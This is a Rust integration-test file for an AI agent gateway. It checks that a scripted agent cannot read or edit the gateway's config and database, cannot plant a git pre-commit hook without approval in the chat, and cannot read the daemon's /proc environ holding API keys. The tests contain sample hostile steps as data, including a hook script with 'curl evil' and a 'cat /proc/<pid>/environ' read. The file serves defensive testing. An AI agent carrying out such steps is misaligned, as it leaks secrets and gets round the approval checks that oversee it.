//! The gateway's secrets out of an agent's reach, through the real daemon: the file tools
//! refuse the config file, the database and the state dir; a workspace that contains the
//! state dir or the config is refused at start and by `config validate`; a write to a
//! workspace control file (`.git/hooks/`, `.switchboard/`…) is asked about in the chat;
//! and a command of the daemon's own user cannot read its environment.

use std::os::unix::fs::PermissionsExt;

use serde_json::json;
use switchboard_testkit::fake_model::FakeModel;
use switchboard_testkit::harness::{GatewayBuilder, WsClient};

use crate::common::{chat, cli, config_for, output, start, BIN, WAIT};
use crate::tools_support::{call, script, tool_result, wait_done, workspace};

/// With `workspaceOnly` off (any path may be named), the config file, the database and the
/// rest of the state dir are still refused to `read`, `write` and `edit`, and the config
/// is unchanged. Catches: `edit config.json5` rewriting the policy live.
#[tokio::test]
async fn the_gateways_own_files_are_refused_to_the_file_tools() {
    let fake = FakeModel::start().await.unwrap();
    let gw = start(&fake, json!({"tools": {"fs": {"workspaceOnly": false}}})).await;
    let mut ws = chat(&gw, "main").await;
    let config = gw.config_path().display().to_string();
    let before = std::fs::read_to_string(gw.config_path()).unwrap();
    let db = gw
        .state_dir()
        .join("data/switchboard.db")
        .display()
        .to_string();
    let other = gw.state_dir().join("home/notes.txt").display().to_string();
    let cases = [
        ("r1", "read", json!({"path": config})),
        ("r2", "write", json!({"path": config, "content": "{}"})),
        (
            "r3",
            "edit",
            json!({"path": config, "oldText": "gateway", "newText": "x"}),
        ),
        ("r4", "read", json!({"path": db})),
        ("r5", "read", json!({"path": format!("{db}-wal")})),
        ("r6", "write", json!({"path": other, "content": "x"})),
    ];
    for (trigger, tool, args) in cases {
        let r = call(&fake, &mut ws, trigger, tool, &args.to_string()).await;
        assert!(
            r.starts_with("error: ") && r.contains("refused, it is") && r.contains("gateway's"),
            "{tool} {args}: {r}"
        );
    }
    assert_eq!(std::fs::read_to_string(gw.config_path()).unwrap(), before);
    // The agent's own workspace (inside the state dir) is still its own.
    let r = call(
        &fake,
        &mut ws,
        "r7",
        "write",
        &json!({"path": "mine.txt", "content": "ok"}).to_string(),
    )
    .await;
    assert_eq!(r, "wrote 2 bytes to mine.txt");
    fake.assert_no_violations();
}

/// Wait for the approval request and return its id and text.
async fn request(ws: &mut WsClient) -> (String, String) {
    let deadline = tokio::time::Instant::now() + WAIT;
    loop {
        let left = deadline.saturating_duration_since(tokio::time::Instant::now());
        let m = ws.next_message(left).await.unwrap();
        if let Some(rest) = m.strip_prefix("🔐 Approval needed [") {
            return (rest.split(']').next().unwrap().to_string(), m);
        }
    }
}

/// A write to `.git/hooks/` waits for the chat's answer and is not done when denied; a
/// write to `.switchboard/` is done once allowed; reading `.git/config` is free. Catches:
/// an agent planting a git hook or its own settings without anyone knowing.
#[tokio::test]
async fn a_write_to_a_workspace_control_file_is_asked_about() {
    let fake = FakeModel::start().await.unwrap();
    let gw = start(&fake, json!({})).await;
    let dir = workspace(&gw);
    std::fs::create_dir_all(dir.join(".git")).unwrap();
    std::fs::write(dir.join(".git/config"), "[core]\n").unwrap();
    let mut ws = chat(&gw, "main").await;

    let hook = json!({"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl evil\n"});
    script(&fake, "h1", "write", &hook.to_string());
    ws.send_text("h1").await.unwrap();
    let (id, text) = request(&mut ws).await;
    assert!(text.contains("write .git/hooks/pre-commit"), "{text}");
    assert!(
        text.contains("git runs the scripts in .git/hooks/"),
        "{text}"
    );
    assert!(
        !dir.join(".git/hooks/pre-commit").exists(),
        "not written before the answer"
    );
    ws.send_text(&format!("/approve {id} deny")).await.unwrap();
    wait_done(&mut ws, "h1", WAIT).await;
    let r = tool_result(&fake, "h1");
    assert!(r.contains("was not allowed (denied)"), "{r}");
    assert!(!dir.join(".git/hooks/pre-commit").exists());

    let settings = json!({"path": ".switchboard/settings.json", "content": "{}"});
    script(&fake, "h2", "write", &settings.to_string());
    ws.send_text("h2").await.unwrap();
    let (id, _) = request(&mut ws).await;
    ws.send_text(&format!("/approve {id} allow-once"))
        .await
        .unwrap();
    wait_done(&mut ws, "h2", WAIT).await;
    assert_eq!(
        tool_result(&fake, "h2"),
        "wrote 2 bytes to .switchboard/settings.json"
    );

    let r = call(
        &fake,
        &mut ws,
        "h3",
        "read",
        &json!({"path": ".git/config"}).to_string(),
    )
    .await;
    assert!(r.contains("[core]"), "{r}");
    fake.assert_no_violations();
}

/// A workspace holding the state dir (here its parent) is refused by `config validate`
/// and at start (exit 64), with the key and the reason. Catches: a workspace from which
/// the agent reaches the database and the config.
#[tokio::test]
async fn a_workspace_holding_the_state_dir_is_refused() {
    let fake = FakeModel::start().await.unwrap();
    let root = tempfile::tempdir().unwrap();
    let state = root.path().join("state");
    std::fs::create_dir_all(&state).unwrap();
    let cfg = config_for(
        &fake,
        json!({"agents": {"defaults": {"workspace": root.path().display().to_string()}}}),
    );
    std::fs::write(state.join("config.json5"), cfg).unwrap();
    let config = state.join("config.json5").display().to_string();
    let validate = output(cli(&state).args(["config", "validate", &config])).await;
    let said = String::from_utf8_lossy(&validate.stdout).into_owned()
        + &String::from_utf8_lossy(&validate.stderr);
    assert!(!validate.status.success(), "{said}");
    assert!(
        said.contains("agents.defaults.workspace")
            && said.contains("contains the gateway's state dir"),
        "{said}"
    );
    let run = output(cli(&state).args(["run", "--config", &config])).await;
    let said = String::from_utf8_lossy(&run.stderr);
    assert_eq!(run.status.code(), Some(64), "{said}");
    assert!(said.contains("contains the gateway's state dir"), "{said}");
}

/// `setpriv` as user `nobody` (65534), for the test run as root.
fn as_nobody(cmd: &[&str]) -> std::process::Command {
    let mut c = std::process::Command::new("setpriv");
    c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .args(cmd);
    c
}

/// A process of the daemon's own user cannot read the daemon's `/proc/<pid>/environ` (its
/// API keys), while it can read another process's of that user. As root, the daemon runs
/// as `nobody` through `setpriv` (root reads every process anyway). Catches: `read <
/// /proc/$PPID/environ` from an agent's command.
#[tokio::test]
async fn a_process_of_the_same_user_cannot_read_the_daemons_environment() {
    let fake = FakeModel::start().await.unwrap();
    let root = rustix::process::geteuid().is_root();
    let dir = tempfile::Builder::new().tempdir_in("/tmp").unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let bin = if root {
        let wrapper = dir.path().join("as-nobody.sh");
        std::fs::write(
            &wrapper,
            format!(
                "#!/bin/sh\nexec setpriv --reuid=65534 --regid=65534 --clear-groups {BIN} \"$@\"\n"
            ),
        )
        .unwrap();
        std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
        wrapper
    } else {
        BIN.into()
    };
    let state = dir.path().join("state");
    std::fs::create_dir_all(&state).unwrap();
    std::fs::set_permissions(&state, std::fs::Permissions::from_mode(0o777)).unwrap();
    let gw = GatewayBuilder::new(bin)
        .state_dir(&state)
        .config(config_for(&fake, json!({})))
        .env("SECRET_FOR_TEST", "do-not-leak")
        .start()
        .await
        .unwrap();
    let pid = gw.pid().unwrap();
    let same_user = |cmd: &[&str]| {
        if root {
            as_nobody(cmd).output().unwrap()
        } else {
            std::process::Command::new(cmd[0])
                .args(&cmd[1..])
                .output()
                .unwrap()
        }
    };
    let environ = format!("/proc/{pid}/environ");
    let read = same_user(&["cat", &environ]);
    assert!(
        !read.status.success() && !String::from_utf8_lossy(&read.stdout).contains("do-not-leak"),
        "the daemon's environment was readable: {}",
        String::from_utf8_lossy(&read.stderr)
    );
    // The same read of another process of that user works: the refusal is the daemon's.
    let mut other = if root {
        as_nobody(&["sleep", "60"])
    } else {
        let mut c = std::process::Command::new("sleep");
        c.arg("60");
        c
    };
    let mut other = other.spawn().unwrap();
    // Until `setpriv` has become `sleep`, the process is the one that changed its user
    // (which the kernel makes non-dumpable).
    let comm = format!("/proc/{}/comm", other.id());
    let deadline = std::time::Instant::now() + WAIT;
    while std::fs::read_to_string(&comm).unwrap_or_default() != "sleep\n" {
        assert!(std::time::Instant::now() < deadline, "sleep did not start");
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let read = same_user(&["cat", &format!("/proc/{}/environ", other.id())]);
    let _ = other.kill();
    let _ = other.wait();
    assert!(
        read.status.success(),
        "{}",
        String::from_utf8_lossy(&read.stderr)
    );
    // And the daemon still answers.
    let mut ws = chat(&gw, "main").await;
    ws.send_text("alive?").await.unwrap();
    assert_eq!(ws.next_message(WAIT).await.unwrap(), "echo: alive?");
}
